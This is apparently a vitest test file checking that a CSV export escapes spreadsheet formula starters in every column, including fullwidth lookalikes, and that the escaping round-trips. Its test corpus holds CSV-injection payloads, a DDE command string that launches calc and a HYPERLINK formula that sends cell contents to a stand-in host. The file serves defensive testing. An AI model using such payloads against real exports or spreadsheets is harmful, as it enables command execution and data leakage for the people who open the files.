import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRecord } from '../../src/main/export/csvWriter';
import { EXPORT_COLUMNS } from '../../src/main/export/exportColumns';
import { guardCell, unguardCell } from '../../src/main/export/formulaGuard';
import { parseRfc4180 } from './helpers/rfc4180';
import { tempDir } from './helpers/temp';
import { triageStore } from './helpers/triageStore';

/** Written out here rather than imported, so a character dropped from the guard's list fails a test. */
const STARTERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
const UNGUARDED = /^[=+\-@\t\r\n\0＝＋－＠﹦﹢﹣﹫]/u;

/** Every way a cell can start a formula, and values that are already quoted or look like numbers. */
const CORPUS: string[] = [
  ...STARTERS.flatMap((s) => [s, `${s}cmd|' /C calc'!A0`, `${s}HYPERLINK("http://x.test/?"&A1)`, `'${s}x`]),
  '-5',
  '-2+3',
  '+86 10 1234 5678',
  "''=x",
  "'plain",
  '﹦1+1',
  '﹫x',
];

describe('guardCell', () => {
  it('quotes every value that could start a formula, and nothing else', () => {
    for (const value of CORPUS) {
      expect(UNGUARDED.test(guardCell(value)), JSON.stringify(value)).toBe(false);
    }
    expect(guardCell('-5')).toBe("'-5");
    expect(guardCell('＝SUM(A1)')).toBe("'＝SUM(A1)");
    expect(guardCell("'=x")).toBe("''=x");
    expect(guardCell("'plain")).toBe("'plain");
    expect(guardCell('plain = text')).toBe('plain = text');
    expect(guardCell('')).toBe('');
  });

  it('is undone exactly by unguardCell, for any text', () => {
    for (const value of CORPUS) expect(unguardCell(guardCell(value))).toBe(value);
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (tail) => {
        for (const head of ['', "'", "''", ...STARTERS]) {
          const value = head + tail;
          const written = guardCell(value);
          if (UNGUARDED.test(written)) return false;
          if (unguardCell(written) !== value) return false;
        }
        return true;
      }),
    );
  });

  it('guards inside a CSV record before quoting', () => {
    expect(csvRecord(['=1,2', 'a"b', '\r\nx', 'ok'])).toBe('"\'=1,2","a""b","\'\r\nx",ok\r\n');
  });
});

describe('a CSV export', () => {
  it('never writes a cell that starts a formula, in any column, and keeps every value recoverable', async () => {
    const lines = ['external_id,occurred_at,title'];
    CORPUS.forEach((_, i) => lines.push(`R-${String(i)},2016-01-01,row ${String(i)}`));
    const store = await triageStore(lines.join('\n'));
    const db = store.runtime.db;
    // Every text column of each incident holds one value of the corpus (extra in its values too).
    const text = EXPORT_COLUMNS.filter((c) => !['occurred_at', 'extra'].includes(c));
    const set = db.prepare(
      `UPDATE incidents SET ${text.map((c) => `${c} = @value`).join(', ')}, extra = @extra WHERE id = @id`,
    );
    const ids = db.prepare('SELECT id FROM incidents ORDER BY id').pluck().all() as number[];
    ids.forEach((id, i) => {
      const value = CORPUS[i] ?? '';
      set.run({ id, value, extra: JSON.stringify({ [value]: value, note: value }) });
    });
    // And one incident whose extra is not JSON at all.
    db.prepare("UPDATE incidents SET extra = '=cmd' WHERE id = ?").run(ids[0]);

    const out = join(tempDir(), 'corpus.csv');
    await store.call('incidents.export', {
      filter: {},
      format: 'csv',
      destination: { kind: 'path', path: out },
    });
    const [header, ...rows] = parseRfc4180(readFileSync(out, 'utf8').slice(1));
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(CORPUS.length);
    const stored = db
      .prepare(`SELECT ${EXPORT_COLUMNS.join(', ')} FROM incidents ORDER BY id`)
      .all() as Record<string, string | null>[];
    rows.forEach((cells, r) => {
      cells.forEach((cell, c) => {
        const column = EXPORT_COLUMNS[c] ?? '';
        expect(UNGUARDED.test(cell), `${column} of row ${String(r)}: ${JSON.stringify(cell)}`).toBe(false);
        expect(unguardCell(cell)).toBe(stored[r]?.[column] ?? '');
      });
    });
    expect(rows[0]?.[EXPORT_COLUMNS.indexOf('extra')]).toBe("'=cmd");
  });

  it('leaves JSON exports as they are: no spreadsheet reads them as formulas', async () => {
    const store = await triageStore('external_id,occurred_at,title\nA,2016-01-01,=1+2');
    const out = join(tempDir(), 'x.json');
    await store.call('incidents.export', {
      filter: {},
      format: 'json',
      destination: { kind: 'path', path: out },
    });
    expect((JSON.parse(readFileSync(out, 'utf8')) as { title: string }[])[0]?.title).toBe('=1+2');
  });
});
